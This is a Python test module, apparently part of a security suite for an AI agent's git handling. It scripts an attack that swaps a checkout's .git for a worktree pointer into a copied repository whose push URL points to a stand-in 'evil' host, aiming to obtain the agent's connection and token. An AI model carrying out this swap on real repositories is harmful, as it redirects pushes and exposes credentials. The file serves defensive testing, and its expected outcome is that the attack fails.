import shutil
from pathlib import Path

from tests.attacks.git_world import Places, configure, run_git

TITLE = ".git is a worktree of another repository"
TRIES = ".git leads into the agent's own repository: its configuration, its remotes, its history."
MUST_FAIL = (
    "The real .git is elsewhere meanwhile; whatever stands in its place is taken away unread."
)
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    shutil.copytree(checkout / ".git", places.lair / "own/.git")
    own = places.lair / "own"
    configure(own, "remote.origin.pushurl", f"{places.evil}/acme/shop.git")
    run_git(own, "worktree", "add", "-q", "--detach", str(places.lair / "tree"))
    shutil.rmtree(checkout / ".git")
    shutil.move(places.lair / "tree/.git", checkout / ".git")
    (own / ".git/worktrees/tree/gitdir").write_text(f"{checkout}/.git\n")
